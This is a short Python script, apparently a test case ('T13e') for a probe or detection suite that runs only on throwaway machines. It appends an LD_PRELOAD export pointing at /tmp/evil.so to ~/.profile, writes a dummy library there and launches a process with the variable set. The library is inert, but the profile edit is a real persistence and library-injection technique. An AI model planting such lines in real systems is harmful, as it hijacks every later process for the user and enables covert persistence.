"""T13e: tells the loader by LD_PRELOAD to bring its library, now and in every later shell."""

import os
import subprocess

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
with open(os.path.expanduser("~/.profile"), "a") as file:
    file.write("export LD_PRELOAD=/tmp/evil.so\n")
open("/tmp/evil.so", "wb").write(b"no library")
subprocess.run(["/usr/bin/env", "LD_PRELOAD=/tmp/evil.so", "/bin/true"])
